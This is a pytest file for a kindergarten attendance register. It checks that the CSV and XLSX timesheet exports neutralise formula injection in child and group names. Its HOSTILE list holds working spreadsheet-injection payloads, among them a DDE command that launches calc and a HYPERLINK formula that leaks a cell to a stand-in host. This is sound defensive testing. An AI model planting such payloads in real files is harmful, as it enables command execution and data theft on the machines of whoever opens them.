"""The табель CSV and XLSX hold no formula, whatever names the database holds (docs/tabel.md, "Exports").

The hostile names are written into the roster's stored documents directly, as an attacker with the
database would (the CSV import refuses them, tests/register/test_roster.py); the month is built by the
real register from real signed ledgers; the files are the ones ``kgate register tabel`` writes.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from xml.etree import ElementTree

import pytest

from kgate.cli import main
from register.csvfile import text_cell
from register.store import open_store
from register.tabel import approval
from tests.register.test_tabel import CHILDREN, MONTH, K, World, build_month

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&B2,"открыть")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    ' =HYPERLINK("http://x.example/")',
    '"=1+1"',
    'Иванова;=HYPERLINK("http://x.example/")',  # a new cell where ';' is the list separator
    "Иванова,-2+3",
    "Иванова\n=1+1",
    "{=1+1}",  # an array formula to XlsxWriter's write()
]
HOSTILE_GROUP = "=1+1"
FORMULA = re.compile(r"^[ \"]*[=+\-@]")
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


@pytest.fixture
def hostile(tmp_path: Path) -> Iterator[World]:
    url = f"sqlite:///{tmp_path / 'register.db'}"
    store = open_store(url)
    world = build_month(store, tmp_path, url)
    names = dict(zip((c for c, _, _ in CHILDREN), HOSTILE, strict=False))  # children with entries
    extra = [  # and children who never came (absent every day)
        {"id": f"h-{i:02d}", "name": name, "group": CHILDREN[0][2], "consent_face": False}
        for i, name in enumerate(HOSTILE[len(CHILDREN) :])
    ]
    with store._tx(write=True) as sql:  # the attacker's write: no import, no check
        rows = sql.all("SELECT version, document FROM roster_versions WHERE kindergarten = ?", (K,))
        for version, doc in rows:
            roster = json.loads(bytes(doc))
            for child in roster["children"]:
                child["name"] = names[child["id"]]
                if child["id"] == "c-006":
                    child["group"] = HOSTILE_GROUP
            roster["children"] += extra
            data = json.dumps(roster, ensure_ascii=False).encode()
            sql.run(
                "UPDATE roster_versions SET document = ? WHERE kindergarten = ? AND version = ?",
                (data, K, version),
            )
    yield world
    for g in world.gates.values():
        g.close()
    store.close()


def _assert_no_csv_formula(doc: bytes) -> None:
    """No cell starts a formula: read as CSV, and split at every character a spreadsheet may split at."""
    text = doc.decode("utf-8")
    for delimiter in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            assert not [cell for cell in row if FORMULA.match(cell) or cell.startswith(("\t", "\r"))], row
    fragments = re.split(r"[,;\t\r\n]", text)
    assert not [f for f in fragments if FORMULA.match(f)]


def _assert_no_xlsx_formula(data: bytes, names: list[str]) -> None:
    """No ``<f>`` in any sheet; every hostile name is there as a shared string (text)."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        assert len(sheets) == 3  # Күншуақ, Солнышко and the hostile group
        for name in sheets:
            root = ElementTree.fromstring(z.read(name))
            assert root.findall(f".//{{{MAIN}}}f") == [], name
            assert {c.get("t") for c in root.iter(f"{{{MAIN}}}c")} <= {None, "s", "n"}, name
        shared = ElementTree.fromstring(z.read("xl/sharedStrings.xml"))
        strings = {_xml_text("".join(si.itertext())) for si in shared.iter(f"{{{MAIN}}}si")}
    missing = [n for n in names if _xml_text(n) not in strings]
    assert not missing  # the names are kept as they are, as text


def _xml_text(text: str) -> str:
    """XML reads a CR as LF; XlsxWriter writes a control character as ``_xHHHH_``."""
    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m[1], 16)), text).replace("\r", "\n")


def test_hostile_names_are_text_in_every_download(hostile: World, tmp_path: Path) -> None:
    t = hostile.tabel()
    assert {r.name for r in t.rows} == set(HOSTILE)  # the табель reads the hostile names
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"tabel.{fmt}"
        argv = ["register", "tabel", "--db", hostile.url, "--kindergarten", K, "--month", MONTH]
        assert main([*argv, "--format", fmt, "--out", str(out)]) == 0
        data = out.read_bytes()
        if fmt == "csv":
            _assert_no_csv_formula(data)
            table = list(csv.DictReader(io.StringIO(data.decode(), newline="")))
            assert {r["name"] for r in table} == {text_cell(n) for n in HOSTILE}  # each only prefixed
            assert {r["group"] for r in table} >= {text_cell(HOSTILE_GROUP)}
        else:
            _assert_no_xlsx_formula(data, [*HOSTILE, HOSTILE_GROUP])


def test_every_hostile_cell_is_prefixed_and_kept() -> None:
    for name in HOSTILE:
        cell = text_cell(name)
        _assert_no_csv_formula(_one_cell_csv(cell))
        assert cell.replace("'", "") == name.replace("'", "")  # only ' added, nothing lost
        assert text_cell(cell) == cell  # idempotent
    for honest in ("Әлихан Нұрланұлы", "Анна-Мария Иванова", "O'Brien", "08:05", "burst;outside_hours", "1"):
        assert text_cell(honest) == honest


def _one_cell_csv(cell: str) -> bytes:
    buf = io.StringIO(newline="")
    csv.writer(buf, lineterminator="\n").writerow([cell])
    return buf.getvalue().encode()


def test_an_approved_month_stays_without_formulas(hostile: World) -> None:
    store = hostile.store
    digest = approval.submit(store, K, MONTH, by="director", now_ms=1)
    assert approval.approve(store, K, MONTH, by="district", now_ms=2, reason="checked") == digest
    doc, changed = approval.document(store, K, MONTH, "csv", now_ms=3)
    assert changed is None and doc == approval.frozen(store, K, MONTH)  # approved bytes, as approved
    _assert_no_csv_formula(doc)
    # A frozen document with live formulas (stored before cells were made safe, or by hand) goes out safe.
    live = _unprefixed(doc)
    with store._tx(write=True) as sql:
        sql.run("UPDATE tabel_approvals SET document = ? WHERE step = 'approved'", (live,))
    with pytest.raises(AssertionError):
        _assert_no_csv_formula(live)
    doc2, _ = approval.document(store, K, MONTH, "csv", now_ms=4)
    _assert_no_csv_formula(doc2)
    assert doc2 == doc


def _unprefixed(doc: bytes) -> bytes:
    """The CSV with live formulas: the prefixes taken out again (every cell quoted, as Excel saves)."""
    buf = io.StringIO(newline="")
    writer = csv.writer(buf, lineterminator="\n", quoting=csv.QUOTE_ALL)
    for row in csv.reader(io.StringIO(doc.decode(), newline="")):
        writer.writerow([re.sub(r"(^|[,;\t\r\n])'", r"\1", cell) for cell in row])
    return buf.getvalue().encode()
